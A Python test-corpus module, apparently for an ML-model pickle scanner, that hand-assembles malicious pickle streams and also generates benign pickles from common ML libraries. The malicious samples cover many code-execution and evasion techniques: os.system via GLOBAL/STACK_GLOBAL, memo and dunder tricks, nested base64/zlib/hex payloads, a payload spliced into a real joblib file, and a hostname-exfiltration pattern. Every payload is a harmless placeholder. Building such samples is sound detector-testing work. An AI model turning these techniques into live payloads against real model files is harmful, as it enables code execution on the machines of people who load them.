"""Raw pickle streams: every global/callable technique of scanners.md 3a-1..34, 3b-35, 3b-46, 3b-47.

Malicious samples are assembled opcode by opcode with harmless payloads (``posix.system("true")``,
``print("mlvet-test")``, loopback addresses); they are never loaded. Benign samples are written by
``pickle``, numpy, scikit-learn, xgboost and joblib themselves.
"""

from __future__ import annotations

import base64
import binascii
import pickle
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.corpus.sample import Sample, benign

CALL = "MLV101"
NESTED = "MLV105"

# ---------------------------------------------------------------- opcode assembly


def _text(value: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long text)."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def _bytes(value: bytes) -> bytes:
    return (
        b"C" + bytes([len(value)]) + value
        if len(value) < 256
        else b"B" + struct.pack("<I", len(value)) + value
    )


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with literal strings."""
    return _text(module) + _text(name) + b"\x93"


def _g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-2 text form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` via MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def _p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _system(module: str = "posix") -> bytes:
    return _call(_sg(module, "system"), _text("true"))


PRINT = 'print("mlvet-test")'
PAYLOAD = _p4(_system())
"""``posix.system("true")`` as protocol 4, the payload embedded by nested samples."""


def _crafted(name: str, rules: str | set[str], technique: str, make: Callable[[], bytes]) -> Sample:
    def build(path: Path) -> None:
        path.write_bytes(make())

    return Sample(f"pickle/{name}", build, frozenset({rules} if isinstance(rules, str) else rules), technique)


def _stdlib_call(name: str, module: str, qualname: str, technique: str, *args: bytes) -> Sample:
    return _crafted(name, CALL, technique, lambda: _p4(_call(_sg(module, qualname), *args)))


# ---------------------------------------------------------------- 3a: globals and callables


def _memo_chain() -> bytes:
    """operator.attrgetter("system")(builtins.__import__("os"))("true"), names fetched from the memo."""
    strings = _text("operator") + b"\x94" + _text("attrgetter") + b"\x94" + _text("builtins") + b"\x94"
    strings += _text("__import__") + b"\x94"
    getter = b"h\x00h\x01\x93" + b"(" + _text("system") + b"tR"
    module = b"h\x02h\x03\x93" + b"(" + _text("os") + b"tR"
    return _p4(strings + getter + b"(" + module + b"tR" + b"(" + _text("true") + b"tR")


def _legacy_strings() -> bytes:
    return b"\x80\x04" + b"U\x05posix" + b"T\x06\x00\x00\x00system" + b"\x93" + b"S'true'\n\x85R."


def _frame_lie() -> bytes:
    """FRAME covers only a BINBYTES header; a frame-respecting reader runs the 'data' as opcodes."""
    hidden = b"cposix\nsystem\n(S'true'\ntR."
    framed = b"B" + struct.pack("<I", len(hidden))
    return b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed + hidden + b"."


def _ext_opcode() -> bytes:
    return b"\x80\x02\x82\x07(S'true'\ntR."


def _obj_discarded() -> bytes:
    return b"(" + _g("posix", "system") + b"S'true'\no0N."


def _nested(
    outer_loader: tuple[str, str], encode: Callable[[bytes], bytes], *decoders: tuple[str, str]
) -> bytes:
    """``loader(decoder_n(...decoder_1(blob)))`` with the payload pickle encoded by ``encode``."""
    value = _bytes(encode(PAYLOAD))
    for module, name in decoders:
        value = _call(_sg(module, name), value)
    return _p4(_call(_sg(*outer_loader), value))


def _codecs_base64() -> bytes:
    text = base64.b64encode(PAYLOAD).decode()
    inner = _call(_sg("codecs", "decode"), _text(text), _text("base64"))
    return _p4(_call(_sg("pickle", "loads"), inner))


def _config_module() -> bytes:
    instance = _call(_sg("torch.utils._config_module", "ConfigModule"))
    return _p4(
        _call(_sg("torch.utils._config_module", "ConfigModule.load_config"), instance, _bytes(PAYLOAD))
    )


def _grammar_loads() -> bytes:
    instance = _call(_sg("lib2to3.pgen2.grammar", "Grammar"))
    return _p4(_call(_sg("lib2to3.pgen2.grammar", "Grammar.loads"), instance, _bytes(PAYLOAD)))


def _partial_torch_load() -> bytes:
    partial = _call(_sg("functools", "partial"), _sg("torch", "load"), _text("/tmp/mlvet-test.pt"))
    return _p4(partial + b")R")


def _resolve_name() -> bytes:
    return _p4(_call(_call(_sg("pkgutil", "resolve_name"), _text("os:system")), _text("true")))


def _pydoc_locate() -> bytes:
    target = _call(_sg("pydoc", "locate"), _text("os"))
    caller = _call(_sg("_operator", "methodcaller"), _text("system"), _text("true"))
    return _p4(caller + b"(" + target + b"tR")


def _import_chain() -> bytes:
    module = _call(_g("__builtin__", "__import__"), b"S'os'\n")
    method = _call(_g("__builtin__", "getattr"), module, b"S'system'\n")
    return b"\x80\x02" + _call(method, b"S'true'\n") + b"."


def _getattr_static() -> bytes:
    module = _call(_sg("importlib", "import_module"), _text("os"))
    method = _call(_sg("inspect", "getattr_static"), module, _text("system"))
    return _p4(_call(method, _text("true")))


def _methodcaller() -> bytes:
    module = _call(_sg("builtins", "__import__"), _text("os"))
    return _p4(
        _call(_sg("_operator", "methodcaller"), _text("system"), _text("true")) + b"(" + module + b"tR"
    )


def _bdb_run() -> bytes:
    return _p4(_call(_sg("bdb", "Bdb.run"), _call(_sg("bdb", "Bdb")), _text(PRINT)))


def _code_runsource() -> bytes:
    interpreter = _call(_sg("code", "InteractiveInterpreter"))
    return _p4(_call(_sg("code", "InteractiveInterpreter.runsource"), interpreter, _text(PRINT)))


def _idle_runcommand() -> bytes:
    shell = _call(_sg("idlelib.pyshell", "ModifiedInterpreter"), b"N")
    return _p4(_call(_sg("idlelib.pyshell", "ModifiedInterpreter.runcommand"), shell, _text(PRINT)))


def _cloudpickle_function() -> bytes:
    code = _call(
        _sg("types", "CodeType"), b"K\x00" * 6, _bytes(b"d\x00S\x00"), b")" * 3, _text("x"), _text("f")
    )
    return _p4(_call(_sg("cloudpickle.cloudpickle", "_make_function"), code, b"}", _text("f"), b"N", b"N"))


def _dns_exfiltration() -> bytes:
    secret = _call(_sg("linecache", "getline"), _text("/etc/hostname"), b"K\x01")
    return _p4(_call(_sg("ssl", "get_server_certificate"), b"(" + secret + b"K\x09t"))


def _setstate_injection() -> bytes:
    """BUILD installs os.system as __setstate__ of a plain object; a second BUILD calls it."""
    obj = _call(_sg("argparse", "Namespace"))
    inject = b"N}" + _text("__setstate__") + _sg("posix", "system") + b"s\x86b"
    return _p4(obj + inject + _text("true") + b"b")


def _newobj() -> bytes:
    return _p4(_sg("subprocess", "Popen") + b"(" + b"]" + _text("true") + b"a" + b"t\x81")


def _newobj_ex() -> bytes:
    return _p4(_sg("subprocess", "Popen") + b"(" + _text("true") + b"t}" + b"\x92")


def _duplicate_proto() -> bytes:
    return b"\x80\x04\x80\x02" + _system() + b"."


def _invalid_utf8_tail() -> bytes:
    return _g("posix", "system") + b"(S'true'\ntR" + b"c\xff\xfe\nbad\xc3\x28\n" + b"\xff\xff"


def _huge_bytes8() -> bytes:
    return b"\x80\x04" + _system() + b"0" + b"\x8e" + struct.pack("<Q", 1 << 60) + b"xx"


def _memo_bomb() -> bytes:
    body = b"]\x94" + b"(" + b"h\x00" * 4000 + b"l\x94" + b"(" + b"h\x01" * 4000 + b"l\x94" + b"0"
    return b"\x80\x04" + body + _system() + b"."


def _nullifai() -> bytes:
    return b"\x80\x02" + _g("posix", "system") + b"X\x04\x00\x00\x00true\x85R" + b"\x00\x00corrupt\xff"


def _stacked_after_benign() -> bytes:
    return pickle.dumps({"weights": [0.5, 1.5], "epoch": 3}, protocol=2) + PAYLOAD


def _payload_first_then_state() -> bytes:
    """ModelScan-style injection: the payload is run, discarded by POP, then the real object follows."""
    benign_body = pickle.dumps({"lr": 0.1}, protocol=4)[2:]
    return b"\x80\x04" + _system() + b"0" + benign_body


def _joblib_after_inline_array(path: Path) -> None:
    """3b-46: a real joblib file with a payload spliced in right after the inline array bytes."""
    import joblib
    import numpy as np

    array = np.arange(32, dtype=np.float64)
    joblib.dump({"weights": array, "note": "benign"}, path)
    data = path.read_bytes()
    raw = array.tobytes()
    cut = data.index(raw) + len(raw)
    path.write_bytes(data[:cut] + _system() + b"0" + data[cut:])


MALICIOUS: list[Sample] = [
    _crafted("os_system_proto0.pkl", CALL, "3a-1: GLOBAL posix.system + REDUCE, protocol 0",
             lambda: _g("posix", "system") + b"(S'true'\ntR."),
    _crafted("builtin_eval_proto2.pkl", CALL, "3a-1: __builtin__.eval (py2 alias), protocol 2",
             lambda: b"\x80\x02" + _call(_g("__builtin__", "eval"), b"S'1+1'\n") + b"."),
    _crafted("subprocess_stack_global.pkl", CALL, "3a-1: STACK_GLOBAL subprocess.check_output, protocol 4",
             lambda: _p4(_call(_sg("subprocess", "check_output"), b"]" + _text("true") + b"a"))),
    _crafted("nt_system.pkl", CALL, "3a-1: nt.system alias of os.system", lambda: _p4(_system("nt"))),
    _crafted("builtins_exec_proto5.pkl", CALL, "3a-1: builtins.exec, protocol 5",
             lambda: b"\x80\x05" + _call(_sg("builtins", "exec"), _text(PRINT)) + b"."),
    _crafted("inst_exec.pkl", CALL, "3a-2: INST opcode calling builtins.exec",
             lambda: b"(S'print(\"mlvet-test\")'\nibuiltins\nexec\n."),
    _crafted("memo_attrgetter_chain.pkl", CALL, "3a-3: STACK_GLOBAL names fetched from the memo",
             _memo_chain),
    _crafted("legacy_strings_proto4.pkl", CALL, "3a-4: STACK_GLOBAL fed by SHORT_BINSTRING/BINSTRING",
             _legacy_strings),
    _crafted("missing_memo_key.pkl", "MLV106", "3a-5: STACK_GLOBAL reading a missing memo slot",
             lambda: b"\x80\x04h\x07h\x08\x93(" + _text("true") + b"tR."),
    _crafted("type_confused_memo.pkl", "MLV106", "3a-5: STACK_GLOBAL operand is an int from the memo",
             lambda: _p4(b"K\x05\x94" + _text("system") + b"\x94h\x00h\x01\x93(" + _text("true") + b"tR")),
    _crafted("dotted_pathlib_os_system.pkl", {CALL, "MLV110"}, "3a-6: pathlib + os.system dotted name",
             lambda: _p4(_call(_sg("pathlib", "os.system"), _text("true")))),
    _crafted("dunder_subclasses.pkl", {"MLV110", "MLV103"}, "3a-6: dunder traversal ndarray.__class__...",
             lambda: _p4(_call(_sg("numpy", "ndarray.__class__.__subclasses__"), _sg("numpy", "ndarray")))),
    _crafted("asyncio_submodule.pkl", CALL, "3a-7: asyncio.unix_events._UnixSubprocessTransport._start",
             lambda: _p4(_call(_sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"N"))),
    _crafted("import_getattr_chain.pkl", CALL, "3a-8: __builtin__.__import__ + getattr chain", _import_chain),
    _crafted("importlib_getattr_static.pkl", CALL, "3a-9: importlib.import_module + inspect.getattr_static",
             _getattr_static),
    _crafted("operator_methodcaller.pkl", CALL, "3a-10: _operator.methodcaller applied to __import__",
             _methodcaller),
    _crafted("functools_partial_torch_load.pkl", CALL, "3a-11: functools.partial(torch.load, path)",
             _partial_torch_load),
    _stdlib_call("pip_main.pkl", "pip", "main", "3a-12: pip.main install (CVE-2025-1716)",
                 b"](" + _text("install") + _text("mlvet-test-nonexistent") + b"e"),
    _stdlib_call("runpy_run_code.pkl", "runpy", "_run_code", "3a-13: runpy._run_code", _text(PRINT), b"}"),
    _stdlib_call("numpy_runstring.pkl", "numpy.testing._private.utils", "runstring", "3a-14: numpy runstring",
                 _text(PRINT), b"}"),
    _stdlib_call("numpy_f2py_getlincoef.pkl", "numpy.f2py.crackfortran", "getlincoef",
                 "3a-15: numpy.f2py eval on strings", _text("1"), b"}"),
    _crafted("bdb_run.pkl", CALL, "3a-16: bdb.Bdb.run", _bdb_run),
    _stdlib_call("cprofile_run.pkl", "cProfile", "run", "3a-16: cProfile.run", _text(PRINT)),
    _stdlib_call("timeit.pkl", "timeit", "timeit", "3a-16: timeit.timeit", _text(PRINT)),
    _stdlib_call("trace_runctx.pkl", "trace", "Trace.runctx", "3a-16: trace.Trace.runctx", b"N",
                 _text(PRINT)),
    _crafted("code_runsource.pkl", CALL, "3a-17: code.InteractiveInterpreter.runsource", _code_runsource),
    _crafted("idlelib_runcommand.pkl", CALL, "3a-17: idlelib ModifiedInterpreter.runcommand",
             _idle_runcommand),
    _stdlib_call("doctest_debug_script.pkl", "doctest", "debug_script", "3a-17: doctest.debug_script",
                 _text(PRINT)),
    _stdlib_call("lib2to3_make_label.pkl", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
                 "3a-17: lib2to3 pgen make_label eval", b"N", b"N", _text("'x'")),
    _stdlib_call("torch_collect_env_run.pkl", "torch.utils.collect_env", "run", "3a-18: collect_env.run",
                 _text("true")),
    _stdlib_call("torch_inductor_compile_file.pkl", "torch._inductor.codecache", "compile_file",
                 "3a-18: torch._inductor.codecache.compile_file", b"]", b"]", b"]"),
    _stdlib_call("torch_exec_wrapper.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper",
                 "3a-18: torch.jit execWrapper", _text(PRINT), b"}", b"}"),
    _stdlib_call("torch_bottleneck.pkl", "torch.utils.bottleneck.__main__", "run_cprofile",
                 "3a-18: torch bottleneck run_cprofile", _text(PRINT), b"}"),
    _crafted("nested_pickle_loads.pkl", {NESTED, CALL}, "3a-19: raw embedded pickle into pickle.loads",
             lambda: _nested(("pickle", "loads"), lambda blob: blob)),
    _crafted("nested_config_module.pkl", {NESTED, CALL}, "3a-19: ConfigModule.load_config of embedded bytes",
             _config_module),
    _crafted("nested_grammar_loads.pkl", {NESTED, CALL}, "3a-19: lib2to3 Grammar.loads of embedded bytes",
             _grammar_loads),
    _crafted("nested_dill_zlib.pkl", {NESTED, CALL}, "3a-20: dill.loads(zlib.decompress(...))",
             lambda: _nested(("dill", "loads"), zlib.compress, ("zlib", "decompress"))),
    _stdlib_call("torch_hub_load.pkl", "torch.hub", "load", "3a-21: torch.hub.load", _text("x/y"),
                 _text("m")),
    _stdlib_call("torch_serialization_load.pkl", "torch.serialization", "load",
                 "3a-22: torch.serialization.load",
                 _text("/tmp/mlvet-test.pt")),
    _crafted("pkgutil_resolve_name.pkl", CALL, "3a-23: pkgutil.resolve_name universal bypass", _resolve_name),
    _crafted("pydoc_locate.pkl", CALL, "3a-23: pydoc.locate + methodcaller", _pydoc_locate),
    _stdlib_call("uuid_command_stdout.pkl", "uuid", "_get_command_stdout", "3a-24: uuid._get_command_stdout",
                 _text("true")),
    _stdlib_call("osx_support_read_output.pkl", "_osx_support", "_read_output", "3a-24: _osx_support",
                 _text("true")),
    _stdlib_call("aix_support.pkl", "_aix_support", "_read_cmd_output", "3a-24: _aix_support", _text("true")),
    _stdlib_call("imaplib_stream.pkl", "imaplib", "IMAP4_stream", "3a-24: imaplib.IMAP4_stream",
                 _text("true")),
    _stdlib_call("pty_spawn.pkl", "pty", "spawn", "3a-24: pty.spawn", _text("true")),
    _stdlib_call("venv_create.pkl", "venv", "create", "3a-24: venv.create", _text("/tmp/mlvet-test-venv")),
    _stdlib_call("ensurepip_run_pip.pkl", "ensurepip", "_run_pip", "3a-24: ensurepip._run_pip",
                 b"]" + _text("--version") + b"a"),
    _stdlib_call("pydoc_pipepager.pkl", "pydoc", "pipepager", "3a-24: pydoc.pipepager", _text("x"),
                 _text("true")),
    _stdlib_call("pyrepl_pager.pkl", "_pyrepl.pager", "pipe_pager", "3a-24: _pyrepl pager", _text("x"),
                 _text("true")),
    _stdlib_call("ctypes_cdll.pkl", "ctypes", "CDLL", "3a-25: ctypes.CDLL", _text("libc.so.6")),
    _stdlib_call("io_fileio.pkl", "_io", "FileIO", "3a-26: _io.FileIO write", _text("/tmp/mlvet-test"),
                 _text("w")),
    _stdlib_call("logging_filehandler.pkl", "logging", "FileHandler", "3a-26: logging.FileHandler",
                 _text("/tmp/mlvet-test.log")),
    _stdlib_call("urlopen.pkl", "urllib.request", "urlopen", "3a-26: urllib.request.urlopen",
                 _text("http://127.0.0.1:9/")),
    _stdlib_call("http_client.pkl", "http.client", "HTTPSConnection", "3a-26: http.client",
                 _text("127.0.0.1")),
    _stdlib_call("socket_connect.pkl", "socket", "create_connection", "3a-26: socket.create_connection",
                 b"(" + _text("127.0.0.1") + b"K\x09t"),
    _stdlib_call("requests_get.pkl", "requests", "get", "3a-26: requests.get", _text("http://127.0.0.1:9/")),
    _stdlib_call("smtplib.pkl", "smtplib", "SMTP", "3a-26: smtplib.SMTP", _text("127.0.0.1")),
    _crafted("dns_exfiltration.pkl", CALL, "3a-26: ssl.get_server_certificate + linecache.getline",
             _dns_exfiltration),
    _crafted("cloudpickle_codetype.pkl", CALL, "3a-27: types.CodeType + cloudpickle _make_function",
             _cloudpickle_function),
    _crafted("ext1_opcode.pkl", "MLV107", "3a-28: EXT1 fetches a callable from the copyreg registry",
             _ext_opcode),
    _crafted("obj_result_popped.pkl", CALL, "3a-29: OBJ call whose result is discarded by POP",
             _obj_discarded),
    _crafted("frame_lie.pkl", {"MLV109", CALL}, "3a-30: FRAME shorter than the BINBYTES it contains",
             _frame_lie),
    _crafted("duplicate_proto.pkl", CALL, "3a-31: duplicate PROTO before the payload", _duplicate_proto),
    _crafted("invalid_utf8_after_global.pkl", CALL, "3a-31: invalid UTF-8 GLOBAL after the payload",
             _invalid_utf8_tail),
    _crafted("huge_binbytes8.pkl", CALL, "3a-32: BINBYTES8 declaring 2**60 bytes after the payload",
             _huge_bytes8),
    _crafted("memo_expansion.pkl", CALL, "3a-32: memo GET expansion before the payload", _memo_bomb),
    _crafted("unknown_third_party.pkl", "MLV103", "3a-33: unknown acme_utils.helpers.run_hook",
             lambda: _p4(_call(_sg("acme_utils.helpers", "run_hook"), _text("deploy")))),
    _stdlib_call("getpass_getuser.pkl", "getpass", "getuser", "3a-34: getpass.getuser"),
    _stdlib_call("resource_setrlimit.pkl", "resource", "setrlimit", "3a-34: resource.setrlimit", b"K\x07",
                 b"(K\x01K\x01t"),
    _stdlib_call("syslog.pkl", "syslog", "syslog", "3a-34: syslog.syslog", _text("mlvet-test")),
    _stdlib_call("gzip_open.pkl", "gzip", "open", "3a-34: gzip.open", _text("/tmp/mlvet-test.gz"),
                 _text("wb")),
    _stdlib_call("weakref_finalize.pkl", "weakref", "finalize", "3a-34: weakref.finalize", b"N", b"N"),
    _stdlib_call("atexit_register.pkl", "atexit", "register", "3a-34: atexit.register", _sg("posix",
                 "system")),
    _stdlib_call("dbm_open.pkl", "dbm", "open", "3a-34: dbm.open", _text("/tmp/mlvet-test.db"), _text("c")),
    _stdlib_call("etree_parse.pkl", "xml.etree.ElementTree", "parse", "3a-34: ElementTree.parse",
                 _text("/etc/hostname")),
    _stdlib_call("http_server.pkl", "http.server", "HTTPServer", "3a-34: http.server.HTTPServer",
                 b"(" + _text("127.0.0.1") + b"K\x00t", b"N"),
    _stdlib_call("socketserver.pkl", "socketserver", "TCPServer", "3a-34: socketserver.TCPServer",
                 b"(" + _text("127.0.0.1") + b"K\x00t", b"N"),
    _stdlib_call("glob.pkl", "glob", "glob", "3a-34: glob.glob", _text("/etc/*")),
    _stdlib_call("mmap.pkl", "mmap", "mmap", "3a-34: mmap.mmap", b"J\xff\xff\xff\xff", b"K\x10"),
    _stdlib_call("py_compile.pkl", "py_compile", "compile", "3a-34: py_compile.compile", _text("/tmp/x.py")),
    _crafted("setstate_injection.pkl", CALL, "BUILD installs os.system as __setstate__", _setstate_injection),
    _crafted("newobj_popen.pkl", CALL, "NEWOBJ of subprocess.Popen", _newobj),
    _crafted("newobj_ex_popen.pkl", CALL, "NEWOBJ_EX of subprocess.Popen", _newobj_ex),
    _crafted("nullifai_broken.pkl", CALL, "3b-35: nullifAI payload before a corrupted tail", _nullifai),
    _crafted("stacked_after_benign.pkl", CALL, "payload as a second pickle after a benign one",
             _stacked_after_benign),
    _crafted("payload_before_state.pkl", CALL, "payload injected before a real object, result popped",
             _payload_first_then_state),
    Sample("pickle/joblib_payload_after_array.joblib", _joblib_after_inline_array, frozenset({CALL}),
           "3b-46: payload spliced after a joblib inline NumpyArrayWrapper buffer"),
    _crafted("nested_codecs_base64.pkl", {NESTED, CALL},
             "3b-47: codecs.decode(base64 text) into pickle.loads",
             _codecs_base64),
    _crafted("nested_hex_dill.pkl", {NESTED, CALL}, "3b-47: binascii.unhexlify(hex) into dill.loads",
             lambda: _nested(("dill", "loads"), binascii.hexlify, ("binascii", "unhexlify"))),
    _crafted("nested_multistage.pkl", {NESTED, CALL}, "3b-47: pickle.loads(zlib.decompress(b64decode(...)))",
             lambda: _nested(("pickle", "loads"), lambda b: base64.b64encode(zlib.compress(b)),
                             ("base64", "b64decode"), ("zlib", "decompress"))),
]  # fmt: skip


# ---------------------------------------------------------------- benign, written by real libraries


def _plain_data() -> object:
    return {
        "name": "run-1",
        "values": [1, 2.5, -3, 2**70],
        "flags": (True, False, None),
        "blob": b"\x00\x01",
        "set": {1, 2},
        "frozen": frozenset({"a"}),
        "complex": 1 + 2j,
        "nested": [[{"k": "v"}]],
    }


def _plain(protocol: int) -> Sample:
    @benign(f"pickle/plain_data_proto{protocol}.pkl", f"pickle.dumps of plain data, protocol {protocol}")
    def build(path: Path) -> None:
        path.write_bytes(pickle.dumps(_plain_data(), protocol=protocol))

    return build


@benign("pickle/ordered_dict_numpy.pkl", "collections.OrderedDict of numpy arrays (state-dict shape)")
def _ordered_dict_numpy(path: Path) -> None:
    from collections import OrderedDict

    import numpy as np

    state = OrderedDict(
        (f"layer{i}.weight", np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4)) for i in range(4)
    )
    path.write_bytes(pickle.dumps(state, protocol=2))


@benign("pickle/ordered_dict_numpy_proto5.pkl", "OrderedDict of numpy arrays, protocol 5 (_frombuffer)")
def _ordered_dict_numpy5(path: Path) -> None:
    from collections import OrderedDict

    import numpy as np

    path.write_bytes(pickle.dumps(OrderedDict(w=np.arange(6, dtype=np.int64), b=np.ones(2)), protocol=5))


def _fit(estimator: object) -> object:
    import numpy as np

    features = np.linspace(0, 1, 80).reshape(20, 4)
    return estimator.fit(features, np.arange(20) % 2)  # type: ignore[attr-defined]


@benign("pickle/sklearn_logistic_regression.pkl", "sklearn LogisticRegression via pickle.dumps")
def _sk_logistic(path: Path) -> None:
    from sklearn.linear_model import LogisticRegression

    path.write_bytes(pickle.dumps(_fit(LogisticRegression())))


@benign("pickle/sklearn_random_forest.pkl", "sklearn RandomForestClassifier via pickle.dumps")
def _sk_forest(path: Path) -> None:
    from sklearn.ensemble import RandomForestClassifier

    path.write_bytes(pickle.dumps(_fit(RandomForestClassifier(n_estimators=3, random_state=0))))


@benign("pickle/sklearn_pipeline.pkl", "sklearn Pipeline(StandardScaler, LogisticRegression)")
def _sk_pipeline(path: Path) -> None:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    path.write_bytes(
        pickle.dumps(_fit(Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())])))
    )


@benign("pickle/sklearn_hist_gradient_boosting.pkl", "sklearn HistGradientBoostingClassifier (Cython losses)")
def _sk_hgb(path: Path) -> None:
    from sklearn.ensemble import HistGradientBoostingClassifier

    path.write_bytes(pickle.dumps(_fit(HistGradientBoostingClassifier(max_iter=3))))


@benign("pickle/xgboost_classifier.pkl", "xgboost XGBClassifier via pickle.dumps")
def _xgb(path: Path) -> None:
    import xgboost

    path.write_bytes(pickle.dumps(_fit(xgboost.XGBClassifier(n_estimators=2, max_depth=2))))


@benign("pickle/numpy_generator.pkl", "numpy.random Generator (PCG64) via pickle.dumps")
def _generator(path: Path) -> None:
    import numpy as np

    path.write_bytes(pickle.dumps(np.random.default_rng(7)))


@benign("pickle/numpy_random_state_proto2.pkl", "legacy numpy RandomState, protocol 2")
def _random_state(path: Path) -> None:
    import numpy as np

    path.write_bytes(pickle.dumps(np.random.RandomState(7), protocol=2))


@benign("pickle/argparse_training_args.pkl", "argparse.Namespace of training arguments")
def _namespace(path: Path) -> None:
    import argparse

    path.write_bytes(pickle.dumps(argparse.Namespace(lr=3e-4, epochs=10, model="resnet18", seed=7)))


@benign(
    "pickle/joblib_arrays.joblib", "joblib.dump of plain, structured, text and object arrays (inline data)"
)
def _joblib_arrays(path: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump(
        {
            "weights": np.arange(12, dtype=np.float32).reshape(3, 4),
            "fortran": np.asfortranarray(np.ones((2, 3))),
            "records": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]),
            "labels": np.array(["cat", "dog"]),
            "objects": np.array([1, "two", None], dtype=object),
            "after": "tail",
        },
        path,
    )


BENIGN: list[Sample] = [
    *(_plain(protocol) for protocol in range(6)),
    _ordered_dict_numpy,
    _ordered_dict_numpy5,
    _sk_logistic,
    _sk_forest,
    _sk_pipeline,
    _sk_hgb,
    _xgb,
    _generator,
    _random_state,
    _namespace,
    _joblib_arrays,
]

SAMPLES: list[Sample] = [*MALICIOUS, *BENIGN]
